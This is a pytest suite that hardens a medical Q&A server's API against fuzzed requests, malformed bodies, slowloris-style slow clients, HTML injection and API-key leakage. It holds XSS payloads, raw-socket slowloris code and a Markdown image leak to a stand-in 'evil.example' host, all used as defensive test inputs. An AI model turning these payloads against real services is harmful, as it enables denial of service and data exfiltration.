"""Server hardening, against the real app and the fake assistant of fakes.py: the OpenAPI
schema fuzzed by schemathesis, hostile bodies, slow clients on a real uvicorn, HTML in the input,
and the API key kept out of logs, error bodies and settings."""

from __future__ import annotations

import json
import logging
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("fastapi")
schemathesis = pytest.importorskip("schemathesis")

import httpx  # noqa: E402
from fastapi.testclient import TestClient  # noqa: E402
from hypothesis import HealthCheck, given  # noqa: E402
from hypothesis import settings as fuzz_settings  # noqa: E402
from schemathesis.python.asgi import shutdown_lifespans  # noqa: E402
from schemathesis.specs.openapi.checks import positive_data_acceptance  # noqa: E402

from fakes import ASTHMA, SECRET, chat, fake_assistant, live_server, serve, settings, wait_ready  # noqa: E402
from medqa.assistant.answer import Assistant  # noqa: E402
from medqa.inference.base import GenerationSettings, Prompt  # noqa: E402
from medqa.retrieval.index import Index  # noqa: E402
from medqa.server.app import create_app  # noqa: E402
from medqa.server.settings import ServerSettings, load_settings  # noqa: E402

LAST_MESSAGE_RULE = "the last message must be a non-empty 'user' message"


@pytest.fixture
def client(tmp_path: Path, index: Index) -> Iterator[TestClient]:
    with serve(tmp_path, fake_assistant(index)) as c:  # the default 256 kB body limit
        yield c


# ----------------------------------------------------------------------------------------- schemathesis
def last_message_rule_only(ctx: Any, response: Any, case: Any) -> None:
    """schemathesis' positive_data_acceptance, less the one rule JSON Schema cannot state: the last
    message must be a non-empty user message (a 400 that says so)."""
    if response.status_code == 400 and LAST_MESSAGE_RULE not in response.text:
        raise AssertionError(f"a schema-valid request was refused: {response.text[:300]}")


def _fuzz(operation: Any, mode: str) -> int:
    """Run up to 50 generated requests against `operation`; the number run."""
    examples = 0

    @given(case=operation.as_strategy(schemathesis.GenerationMode(mode)))
    @fuzz_settings(
        max_examples=50, deadline=None, database=None, derandomize=True, suppress_health_check=list(HealthCheck)
    )
    def run(case: Any) -> None:
        nonlocal examples
        examples += 1
        case.call_and_validate(
            headers={"Authorization": f"Bearer {SECRET}"},
            excluded_checks=[positive_data_acceptance],
            additional_checks=[last_message_rule_only] if mode == "positive" else [],
        )

    run()
    return examples


@pytest.mark.parametrize("mode", ["positive", "negative"])
def test_schemathesis_finds_no_server_error_and_no_undocumented_answer(tmp_path: Path, index: Index, mode: str) -> None:
    """Up to 50 generated requests per operation (valid ones, then invalid ones), each checked by
    every schemathesis check: no 5xx, status codes, content types, headers and bodies as the
    schema documents them, invalid data refused, and no answer without the API key."""
    assistant = fake_assistant(index)
    app = create_app(  # conversations logged too: fuzzed text goes through SQLite as well
        settings(tmp_path, api_key=SECRET, rate_limit_burst=10**9, log_conversations=True), lambda: assistant
    )
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)  # starts the app's lifespan
    examples: dict[str, int] = {}
    try:
        for _ in range(400):
            if app.state.service is not None:
                break
            time.sleep(0.025)
        for result in schema.get_all_operations():
            operation = result.ok()
            if mode == "negative" and operation.path in ("/health", "/ready"):
                continue  # no parameters and no body: nothing to make invalid
            examples[operation.label] = _fuzz(operation, mode)
    finally:
        shutdown_lifespans()
    print(f"schemathesis {mode}: {examples} ({sum(examples.values())} requests)")
    assert examples["POST /v1/chat/completions"] == 50 and examples["POST /api/feedback"] == 50
    assert examples["GET /v1/models"] >= 1


def test_the_schema_documents_errors_auth_and_plain_text(client: TestClient) -> None:
    spec = client.get("/openapi.json").json()
    chat_op = spec["paths"]["/v1/chat/completions"]["post"]
    assert {"200", "400", "401", "408", "413", "429", "503"} <= chat_op["responses"].keys()
    assert chat_op["responses"]["400"]["content"]["application/json"]["schema"]["$ref"].endswith(
        "/ValidationErrorResponse"
    )
    assert chat_op["responses"]["413"]["content"]["application/json"]["schema"]["$ref"].endswith("/ErrorResponse")
    assert "text/event-stream" in chat_op["responses"]["200"]["content"]
    assert spec["components"]["securitySchemes"]["HTTPBearer"]["scheme"] == "bearer"
    content = spec["components"]["schemas"]["ChatMessage"]["properties"]["content"]["anyOf"][0]
    assert content["maxLength"] == 4000 and content["pattern"].startswith("^[^\\x00")


# ----------------------------------------------------------------------------------------- hostile bodies
JSON = {"content-type": "application/json"}
HOSTILE_BODIES = {
    "malformed JSON": b'{"messages": [',
    "trailing garbage": b'{"messages": [{"role": "user", "content": "hi"}]} x',
    "a string, not an object": b'"How is asthma treated?"',
    "an array, not an object": b"[1, 2, 3]",
    "null": b"null",
    "empty body": b"",
    "wrong types": json.dumps({"messages": "hi", "max_tokens": "many", "stream": "yes"}).encode(),
    "a message of the wrong type": json.dumps({"messages": [{"role": "user", "content": 42}]}).encode(),
    "100k brackets": b"[" * 100_000,
    "100k brackets in a field": b'{"messages": ' + b"[" * 100_000,
    "nested 500 deep in a field": json.dumps({"messages": [{"role": "user", "content": "hi"}], "stop": [[[]]]})
    .replace("[[[]]]", "[" * 500 + "]" * 500)
    .encode(),
    "raw control character": b'{"messages": [{"role": "user", "content": "hi\x01there"}]}',
    "invalid UTF-8": b'{"messages": [{"role": "user", "content": "asthma \xff\xfe\xc3"}]}',
    "NUL in a message": json.dumps({"messages": [{"role": "user", "content": "asthma\u0000inhaler"}]}).encode(),
    "escape character in a message": json.dumps({"messages": [{"role": "user", "content": "a\u001b[31m"}]}).encode(),
    "NUL in a text part": json.dumps(
        {"messages": [{"role": "user", "content": [{"type": "text", "text": "a\u0000"}]}]}
    ).encode(),
    "unpaired surrogate": b'{"messages": [{"role": "user", "content": "asthma \\ud800 inhaler"}]}',
    "huge number": b'{"messages": [{"role": "user", "content": "hi"}], "max_tokens": 1' + b"0" * 5000 + b"}",
    "infinite temperature": b'{"messages": [{"role": "user", "content": "hi"}], "temperature": 1e999}',
}


@pytest.mark.parametrize("name", list(HOSTILE_BODIES))
def test_hostile_bodies_get_a_clear_json_4xx(client: TestClient, name: str) -> None:
    response = client.post("/v1/chat/completions", content=HOSTILE_BODIES[name], headers=JSON)
    assert 400 <= response.status_code < 500, (response.status_code, response.text)
    assert response.headers["content-type"] == "application/json"
    error = response.json()["error"]
    assert error["type"] in ("invalid_request_error", "request_too_large") and 10 < len(error["message"]) <= 300


def test_control_characters_and_surrogates_are_named_in_the_400(client: TestClient) -> None:
    nul = client.post("/v1/chat/completions", content=HOSTILE_BODIES["NUL in a message"], headers=JSON).json()
    assert nul["error"]["param"] == "messages.0.content" and "U+0000" in nul["error"]["message"]
    surrogate = client.post("/v1/chat/completions", content=HOSTILE_BODIES["unpaired surrogate"], headers=JSON)
    assert "unpaired surrogate" in surrogate.json()["error"]["message"]
    feedback = client.post("/api/feedback", json={"answer_id": "a1", "rating": "up", "comment": "ok\u0000"})
    assert feedback.status_code == 400 and feedback.json()["error"]["param"] == "comment"
    # tab, newline and carriage return are text
    assert chat(client, "How is asthma\ttreated\r\nwith an inhaler?").status_code == 200


def test_malformed_json_says_where_and_a_plain_text_body_says_what_to_send(client: TestClient) -> None:
    malformed = client.post("/v1/chat/completions", content=b'{"messages": [', headers=JSON).json()["error"]
    assert (
        malformed["param"] == "body" and malformed["message"] == "body: invalid JSON at character 14: Expecting value"
    )
    plain = client.post(
        "/v1/chat/completions", content=b"How is asthma treated?", headers={"content-type": "text/plain"}
    )
    assert "Content-Type: application/json" in plain.json()["error"]["message"]
    unreadable = client.post("/v1/chat/completions", content=b"[" * 100_000, headers=JSON)
    assert unreadable.status_code == 400 and "not readable as JSON" in unreadable.json()["error"]["message"]


def test_huge_bodies_are_413_with_or_without_content_length(client: TestClient) -> None:
    huge = json.dumps({"messages": [{"role": "user", "content": "x" * 300_000}]}).encode()
    declared = client.post("/v1/chat/completions", content=huge, headers=JSON)
    assert declared.status_code == 413 and declared.headers["connection"] == "close"
    chunked = client.post(
        "/v1/chat/completions", content=(huge[i : i + 1000] for i in range(0, len(huge), 1000)), headers=JSON
    )
    assert chunked.status_code == 413 and chunked.json()["error"]["type"] == "request_too_large"
    assert client.post("/api/feedback", content=huge, headers=JSON).status_code == 413


# ----------------------------------------------------------------------------------------- slow clients
def _port(url: str) -> int:
    return int(url.rsplit(":", 1)[1])


def _closed(sock: socket.socket, wait: float = 0.05) -> bool:
    """Whether the server has closed `sock` (unread data, such as a response, is read past)."""
    sock.settimeout(wait)
    try:
        while data := sock.recv(65536):
            del data
        return True
    except (TimeoutError, BlockingIOError):
        return False
    except OSError:  # reset by the server
        return True


def _response(sock: socket.socket, timeout: float) -> bytes:
    """Everything the server sends until it closes the connection (or `timeout`)."""
    sock.settimeout(timeout)
    data = b""
    try:
        while chunk := sock.recv(65536):
            data += chunk
    except (TimeoutError, OSError):
        pass
    return data


def test_slow_or_silent_headers_are_cut_off_while_others_are_served(tmp_path: Path, index: Index) -> None:
    with live_server(tmp_path, fake_assistant(index), header_timeout_s=1.0, workers=1) as url:
        port = _port(url)
        silent = socket.create_connection(("127.0.0.1", port))  # connects, sends nothing
        dribbler = socket.create_connection(("127.0.0.1", port))  # slowloris: a header byte at a time
        dribbler.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        started, latencies = time.monotonic(), []
        closed_after: dict[str, float] = {}
        while len(closed_after) < 2 and time.monotonic() - started < 6:
            try:
                dribbler.sendall(b"a")
            except OSError:
                closed_after.setdefault("dribbler", time.monotonic() - started)
            t = time.monotonic()
            assert httpx.get(f"{url}/health", timeout=2).status_code == 200  # the server still answers
            latencies.append(time.monotonic() - t)
            for name, sock in (("silent", silent), ("dribbler", dribbler)):
                if name not in closed_after and _closed(sock):
                    closed_after[name] = time.monotonic() - started
            time.sleep(0.2)
        answer = httpx.post(f"{url}/v1/chat/completions", json={"messages": [{"role": "user", "content": ASTHMA}]})
    silent.close(), dribbler.close()
    assert set(closed_after) == {"silent", "dribbler"}, closed_after
    assert all(0.9 <= seconds < 2.5 for seconds in closed_after.values()), closed_after
    assert max(latencies) < 1.0 and answer.status_code == 200


def test_a_dribbled_or_unfinished_body_gets_408_and_the_connection_closes(tmp_path: Path, index: Index) -> None:
    head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    with live_server(tmp_path, fake_assistant(index), body_timeout_s=1.0, header_timeout_s=5.0, workers=1) as url:
        port = _port(url)
        clients = {
            name: socket.create_connection(("127.0.0.1", port)) for name in ("unfinished", "dribbled", "chunked")
        }
        clients["unfinished"].sendall(head + b"Content-Length: 200\r\n\r\n" + b'{"messages": [')
        clients["dribbled"].sendall(head + b"Content-Length: 1000\r\n\r\n")
        clients["chunked"].sendall(head + b"Transfer-Encoding: chunked\r\n\r\n")
        started = time.monotonic()
        for _ in range(4):  # a byte (or a chunk) every 0.2 s, then nothing: the body never completes
            clients["dribbled"].sendall(b" ")
            clients["chunked"].sendall(b"1\r\n \r\n")
            time.sleep(0.2)
        # meanwhile the one worker answers someone else
        answer = httpx.post(f"{url}/v1/chat/completions", json={"messages": [{"role": "user", "content": ASTHMA}]})
        replies = {name: _response(sock, timeout=3) for name, sock in clients.items()}
        elapsed = time.monotonic() - started
    for sock in clients.values():
        sock.close()
    assert answer.status_code == 200
    for name, reply in replies.items():
        assert reply.startswith(b"HTTP/1.1 408"), (name, reply[:200])
        assert b"connection: close" in reply.lower()
        body = json.loads(reply.split(b"\r\n\r\n", 1)[1])
        assert body["error"]["type"] == "request_timeout" and "1 s" in body["error"]["message"]
    assert elapsed < 4.5  # 408 after ~1 s, and each connection closed (else _response would wait 3 s)


def test_idle_keep_alive_connections_are_closed(tmp_path: Path, index: Index) -> None:
    with live_server(tmp_path, fake_assistant(index), keep_alive_s=1) as url:
        sock = socket.create_connection(("127.0.0.1", _port(url)))
        sock.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
        sock.settimeout(2)
        assert sock.recv(65536).startswith(b"HTTP/1.1 200")
        started = time.monotonic()
        while not _closed(sock, wait=0.1) and time.monotonic() - started < 4:
            pass
        idle = time.monotonic() - started
    sock.close()
    assert 0.8 <= idle < 2.5


def test_timeouts_are_settings_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MEDQA_HEADER_TIMEOUT_S", "3.5")
    monkeypatch.setenv("MEDQA_BODY_TIMEOUT_S", "12")
    monkeypatch.setenv("MEDQA_KEEP_ALIVE_S", "7")
    loaded = load_settings()
    assert (loaded.header_timeout_s, loaded.body_timeout_s, loaded.keep_alive_s) == (3.5, 12.0, 7)
    monkeypatch.setenv("MEDQA_BODY_TIMEOUT_S", "0")
    with pytest.raises(Exception, match="body_timeout_s"):
        load_settings()


# ----------------------------------------------------------------------------------------- HTML
SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(1)">'


class EchoGenerator:
    """A model that does what the message says: repeats it, markup included."""

    name = "echo"

    def stream(self, prompt: Prompt, settings: GenerationSettings, should_stop: Any = None) -> Iterator[str]:
        yield f"You asked: {prompt.question} An inhaler opens the airways [1]. "
        yield f"Here is a picture {IMG} ![x](https://evil.example/x.png?leak=1) of it."


def _has_markup(text: str) -> bool:
    return any(marker in text for marker in ("<script", "<img", "</script", 'onerror="alert(1)">'))


def test_html_in_the_question_never_comes_back_as_markup(tmp_path: Path, index: Index) -> None:
    assistant = fake_assistant(index, generator=EchoGenerator())
    question = f"How is asthma treated with an inhaler? {SCRIPT} {IMG}"
    with serve(tmp_path, assistant) as client:
        body = chat(client, question).json()
        content = body["choices"][0]["message"]["content"]
        # The answer is given; the model's echo of the question is no source, so the support check drops it.
        assert "An inhaler opens" in content and "You asked" not in content
        assert not _has_markup(content) and not _has_markup(json.dumps(body["medqa"]))
        assert "![" not in content  # no image a Markdown client would fetch
        with client.stream(
            "POST", "/v1/chat/completions", json={"messages": [{"role": "user", "content": question}], "stream": True}
        ) as response:
            assert not _has_markup(response.read().decode())


def test_error_bodies_never_echo_the_input(client: TestClient) -> None:
    hostile = {
        "messages": [{"role": f"user{SCRIPT}", "content": SCRIPT}],
        "temperature": IMG,
        "max_tokens": SCRIPT,
        "seed": IMG,
    }
    invalid = client.post("/v1/chat/completions", json=hostile)
    assert invalid.status_code == 400 and "alert" not in invalid.text and "<" not in invalid.text
    missing = client.get(f"/v1/{SCRIPT}")
    assert missing.status_code == 404 and "alert" not in missing.text
    feedback = client.post("/api/feedback", json={"answer_id": SCRIPT, "rating": IMG})
    assert feedback.status_code == 400 and "alert" not in feedback.text
    for response in (invalid, missing, feedback):
        assert response.headers["content-type"] == "application/json"
        assert response.headers["x-content-type-options"] == "nosniff"


# ----------------------------------------------------------------------------------------- secrets
def test_the_api_key_never_appears_in_logs_errors_or_status(
    tmp_path: Path, index: Index, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    seen: list[str] = []
    with serve(tmp_path, fake_assistant(index), api_key=SECRET) as client:
        for headers in (
            {"Authorization": f"Bearer {SECRET}"},
            {"Authorization": f"Bearer {SECRET}-wrong"},
            {"Authorization": f"Basic {SECRET}"},
            {"Authorization": SECRET},
            {},
        ):
            for response in (
                client.get("/v1/models", headers=headers),
                client.post(
                    "/v1/chat/completions", json={"messages": [{"role": "user", "content": ASTHMA}]}, headers=headers
                ),
                client.post("/v1/chat/completions", json={"messages": []}, headers=headers),
                client.get(f"/v1/models?api_key={SECRET}", headers=headers),
            ):
                seen.append(response.text + json.dumps(dict(response.headers)))
        statuses = [client.get(path) for path in ("/health", "/ready", "/openapi.json")]
    assert [r.status_code for r in statuses] == [200, 200, 200]
    assert not [text for text in seen + [r.text for r in statuses] if SECRET in text]
    server_logs = "\n".join(
        r.getMessage() for r in caplog.records if not r.name.startswith("httpx")
    )  # not the client's
    assert SECRET not in server_logs and "asthma" not in server_logs.lower()
    assert len([r for r in caplog.records if r.name == "medqa.server.access"]) >= 20


def test_settings_mask_the_key_and_an_empty_key_is_no_key(monkeypatch: pytest.MonkeyPatch) -> None:
    configured = ServerSettings(api_key=SECRET)
    for shown in (repr(configured), str(configured), configured.model_dump_json()):
        assert SECRET not in shown and "**********" in shown
    monkeypatch.setenv("MEDQA_API_KEY", "")  # compose's ${MEDQA_API_KEY:-} when the key is unset
    assert load_settings().api_key is None


def test_a_load_error_that_quotes_the_key_or_url_credentials_is_redacted(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    def failing() -> Assistant:
        raise ConnectionError(f"http://medqa:hunter22@gpu-host:8001/v1 refused the key {SECRET}")

    caplog.set_level(logging.DEBUG)
    with TestClient(create_app(settings(tmp_path, api_key=SECRET), failing)) as client:
        client.headers["Authorization"] = f"Bearer {SECRET}"  # without the key /ready says only its status
        reason = wait_ready(client, 503)["reason"]
    assert "gpu-host" in reason and SECRET not in reason and "hunter22" not in reason
    assert SECRET not in caplog.text and "hunter22" not in caplog.text


def test_unhandled_errors_are_a_json_500_without_details(tmp_path: Path, index: Index) -> None:
    assistant = fake_assistant(index)
    with serve(tmp_path, assistant) as client:

        def broken(request: Any) -> GenerationSettings:
            raise KeyError(SECRET)

        client.app.state.service.settings_for = broken  # type: ignore[attr-defined]
        raw = TestClient(client.app, raise_server_exceptions=False)  # the same app, lifespan already running
        response = raw.post("/v1/chat/completions", json={"messages": [{"role": "user", "content": ASTHMA}]})
    assert response.status_code == 500 and response.json()["error"] == {
        "message": "internal server error",
        "type": "server_error",
        "param": None,
        "code": None,
    }
    assert SECRET not in response.text
